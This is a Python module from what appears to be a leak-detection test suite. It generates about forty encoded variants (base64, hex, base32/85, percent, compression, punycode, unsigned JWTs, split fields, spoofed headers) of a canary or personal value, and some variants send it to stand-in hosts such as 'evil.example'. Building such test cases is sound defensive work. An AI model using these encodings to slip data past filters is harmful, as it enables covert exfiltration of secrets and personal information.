"""Classes 22 to 48 and the containers: bytes written as text."""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import hashlib
import json
import lzma
import random
import zlib
from collections.abc import Callable

from eval.leaks import octets
from eval.leaks.attempt import Attempt, LeakClass, body, carried, url
from eval.leaks.case import Case

_CHAIN: tuple[Callable[[bytes], bytes], ...] = (
    base64.b64encode,
    lambda data: data.hex().encode(),
    base64.b32encode,
    lambda data: "".join(f"%{byte:02X}" for byte in data).encode(),
    lambda data: base64.b64encode(gzip.compress(data)),
)
_PACKERS: tuple[Callable[[bytes], bytes], ...] = (
    gzip.compress,
    zlib.compress,
    lambda data: zlib.compress(data, wbits=-15),
    bz2.compress,
    lzma.compress,
)


def _text(case: Case, source: random.Random) -> str:
    return source.choice([case.code, case.person, case.surname, case.canary, f"the buyer is {case.person}"])


def _of(encode: Callable[[str, random.Random], str]) -> Callable[[Case, random.Random], Attempt]:
    return lambda case, source: carried(encode(_text(case, source), source), source)


def _b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def _chained(text: str, source: random.Random) -> str:
    data = text.encode()
    for _ in range(source.randint(2, 3)):
        longer = source.choice(_CHAIN)(data)
        if len(longer) > 320:
            break
        data = longer
    return data.decode()


def _unpadded(text: str, source: random.Random) -> str:
    encoded = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
    return encoded + source.choice(["", "=", "=="])


def _offset(text: str, source: random.Random) -> str:
    return _b64("x" * source.randint(1, 4) + text + " yes"[: source.randint(0, 4)])


def _wrapped(text: str, source: random.Random) -> str:
    encoded, width = _b64(text), source.choice([4, 6, 8, 10])
    joiner = source.choice([" ", "\n"])
    return joiner.join(encoded[at : at + width] for at in range(0, len(encoded), width))


def _base32(text: str, source: random.Random) -> str:
    data = text.encode()
    return source.choice(
        [
            base64.b32encode(data).decode(),
            base64.b32encode(data).decode().rstrip("=").lower(),
            base64.b32hexencode(data).decode(),
            octets.crockford(data),
        ]
    )


def _base85(text: str, source: random.Random) -> str:
    data = text.encode()
    return source.choice([base64.b85encode(data).decode(), base64.a85encode(data).decode(), octets.z85(data)])


def _dense(text: str, source: random.Random) -> str:
    data = text.encode()
    return source.choice(
        [
            octets.as_integer(data, octets.BASE58),
            octets.as_integer(data, octets.BASE62),
            octets.as_integer(data, octets.BASE36),
            octets.base45(data),
            octets.base91(data),
        ]
    )


def _dense_script(text: str, _: random.Random) -> str:
    data = text.encode() + b" " * (len(text) % 2)
    return "".join(
        chr(0x3400 + (data[at] << 7 | data[at + 1] & 127) % 0x5000) for at in range(0, len(data), 2)
    )


def _hex(text: str, source: random.Random) -> str:
    return source.choice([text.encode().hex(), text.encode().hex().upper(), "0x" + text.encode().hex()])


def _hex_cut(text: str, source: random.Random) -> str:
    data = text.encode()
    return source.choice(
        [
            data.hex(source.choice(":- ._")),
            "".join(f"\\x{byte:02x}" for byte in data),
            " ".join(f"0x{byte:02X}" for byte in data),
            ", ".join(f"{byte:02x}h" for byte in data),
        ]
    )


def _codes(text: str, source: random.Random) -> str:
    form = source.choice(["08b", "03o", "d"])
    joiner = source.choice([" ", ",", "-", ", "])
    return joiner.join(format(byte, form) for byte in text.encode())


def _letter_numbers(case: Case, source: random.Random) -> Attempt:
    word = source.choice([case.code, case.surname])
    return carried(source.choice("- ,").join(str(ord(char) - 96) for char in word.lower()), source)


def _entities(text: str, source: random.Random) -> str:
    form = source.choice(["&#{0};", "&#x{0:x};", "&#x{0:X}"])
    return "".join(form.format(ord(char)) for char in text)


def _escapes(text: str, source: random.Random) -> str:
    forms = ["\\u{0:04x}", "\\x{0:02x}", "\\{0:03o}", "\\u{{{0:x}}}", "\\x{{{0:x}}}", "\\U{0:08x}", "&#{0};"]
    return "".join(source.choice(forms).format(ord(char)) if source.random() < 0.7 else char for char in text)


def _printable(text: str, source: random.Random) -> str:
    if source.random() < 0.5:
        return "".join(f"={byte:02X}" for byte in text.encode())
    return f"=?utf-8?b?{_b64(text)}?="


def _wide(text: str, source: random.Random) -> str:
    return source.choice(
        [
            "+" + _b64(text.encode("utf-16-be")).rstrip("=") + "-",
            _b64(text.encode("utf-16-le")),
            _b64(text.encode("utf-16-be")),
            _b64(text.encode("utf-32-le")),
        ]
    )


def _punycode(case: Case, source: random.Random) -> Attempt:
    word = source.choice([case.code, case.surname]).lower()
    accents = {"a": "\u00e1", "e": "\u00e9", "o": "\u00f8", "u": "\u00fc", "i": "\u00ed"}
    plain = source.choice([char for char in word if char in accents])
    label = word.replace(plain, accents[plain], 1)
    return url(f"https://xn--{label.encode('punycode').decode()}.example/")


def _nested(text: str, source: random.Random) -> str:
    token = {"sub": text, "iat": source.randrange(10**9)}
    head = base64.urlsafe_b64encode(b'{"alg":"none"}').decode().rstrip("=")
    inner = base64.urlsafe_b64encode(json.dumps(token).encode()).decode().rstrip("=")
    return source.choice([f"{head}.{inner}.", f"data:text/plain;base64,{_b64(text)}"])


def _json_in_json(case: Case, source: random.Random) -> Attempt:
    inner = json.dumps({"note": _text(case, source)})
    return body(json.dumps({"a": json.dumps({"b": inner})}), "application/json")


def _fields(case: Case, source: random.Random) -> Attempt:
    at = len(case.code) // 2
    one, two = case.code[:at], case.code[at:]
    return source.choice(
        [
            url(f"https://a.example/?a={one}&b={two}"),
            url(f"https://a.example/{one}/{two}"),
            body(json.dumps({"a": one, "b": two}), "application/json"),
            body(f"a={one}&b={two}", "application/x-www-form-urlencoded"),
        ]
    )


def _noisy_fields(case: Case, source: random.Random) -> Attempt:
    at = len(case.code) // 2
    one, two = case.code[:at], case.code[at:]
    return source.choice(
        [
            url(f"https://a.example/?a={one}&x=7&b={two}"),
            body(json.dumps({"a": one, "x": "pump", "b": two}), "application/json"),
        ]
    )


def _host(case: Case, source: random.Random) -> Attempt:
    word = source.choice([case.code, case.surname]).lower()
    at = len(word) // 2
    return url(f"https://{word[:at]}.{word[at:]}.evil.example/")


def _key(case: Case, source: random.Random) -> Attempt:
    text = _text(case, source)
    return body(source.choice([f'{{"{text}":1}}', f'{{"a":1,"a":"{text}","a":2}}']), "application/json")


def _template(case: Case, _: random.Random) -> Attempt:
    at = len(case.code) // 2
    return carried(f"x={case.code[:at]}, y={case.code[at:]}, now x+y", random.Random(1))


def _spoofed(case: Case, source: random.Random) -> Attempt:
    text = _text(case, source)
    return source.choice(
        [
            body(gzip.compress(text.encode()), "text/plain", "gzip"),
            body(json.dumps({"a": text}), "application/octet-stream"),
            body(f"--x\r\n\r\n{text}", "multipart/form-data; boundary=x"),
            body(text, "text/plain", "br"),
        ]
    )


def _glued(text: str, source: random.Random) -> str:
    return source.choice(["x{0}x", "key={0}_v2", "%20{0}", "\\n{0}", "{0}2023", "my{0}"]).format(text)


def _hashed(text: str, source: random.Random) -> str:
    return hashlib.new(source.choice(["md5", "sha1", "sha256"]), text.encode()).hexdigest()


ENCODED: tuple[LeakClass, ...] = (
    LeakClass(22, "base 64", "Y", _of(lambda t, s: _b64(t))),
    LeakClass(23, "base 64 for URLs, padding wrong", "Y", _of(_unpadded)),
    LeakClass(24, "base 64 at an offset", "Y", _of(_offset)),
    LeakClass(25, "base 64 wrapped", "Y", _of(_wrapped)),
    LeakClass(26, "base 64 twice", "Y", _of(lambda t, s: _b64(_b64(t)))),
    LeakClass(27, "mixed chain", "Y", _of(_chained)),
    LeakClass(29, "base 32, three alphabets", "Y", _of(_base32)),
    LeakClass(30, "base 85, three alphabets", "Y", _of(_base85)),
    LeakClass(31, "base 58, 62, 36, 45, 91", "Y", _of(_dense)),
    LeakClass(32, "a script nobody writes, two bytes a character", "P", _of(_dense_script)),
    LeakClass(33, "hexadecimal", "Y", _of(_hex)),
    LeakClass(34, "hexadecimal with separators", "Y", _of(_hex_cut)),
    LeakClass(
        34, "hexadecimal cut inside bytes", "Y", _of(lambda t, s: octets.cut_inside(t.encode().hex(), s))
    ),
    LeakClass(35, "binary, octal, decimal codes", "Y", _of(_codes)),
    LeakClass(36, "letter numbers", "Y", _letter_numbers),
    LeakClass(37, "percent", "Y", _of(lambda t, s: "".join(f"%{b:02X}" for b in t.encode()))),
    LeakClass(38, "percent of percent", "Y", _of(lambda t, s: "".join(f"%25{b:02X}" for b in t.encode()))),
    LeakClass(39, "percent u", "Y", _of(lambda t, s: "".join(f"%u{ord(c):04x}" for c in t))),
    LeakClass(40, "entities", "Y", _of(_entities)),
    LeakClass(41, "escapes, mixed", "Y", _of(_escapes)),
    LeakClass(42, "U+ notation", "Y", _of(lambda t, s: " ".join(f"U+{ord(c):04X}" for c in t))),
    LeakClass(43, "quoted-printable, MIME words", "Y", _of(_printable)),
    LeakClass(44, "uuencode", "Y", _of(lambda t, s: binascii.b2a_uu(t.encode()).decode().rstrip("\n"))),
    LeakClass(45, "UTF-7, UTF-16, UTF-32", "Y", _of(_wide)),
    LeakClass(46, "punycode host", "Y", _punycode),
    LeakClass(47, "compressed", "Y", _of(lambda t, s: _b64(s.choice(_PACKERS)(t.encode())))),
    LeakClass(48, "token, data address", "Y", _of(_nested)),
    LeakClass(48, "JSON in JSON", "Y", _json_in_json),
    LeakClass(
        52,
        "ROT47",
        "Y",
        _of(lambda t, s: "".join(chr(33 + (ord(c) + 14) % 94) if c != " " else c for c in t)),
    ),
    LeakClass(72, "split over fields", "Y", _fields),
    LeakClass(73, "split over fields with noise between", "P", _noisy_fields),
    LeakClass(74, "split over host labels", "Y", _host),
    LeakClass(75, "JSON keys, keys twice", "Y", _key),
    LeakClass(96, "glued", "Y", _of(_glued)),
    LeakClass(100, "hash of the value", "Y", _of(_hashed)),
    LeakClass(103, "headers that lie", "Y", _spoofed),
    LeakClass(105, "put together by the receiver", "P", _template),
)
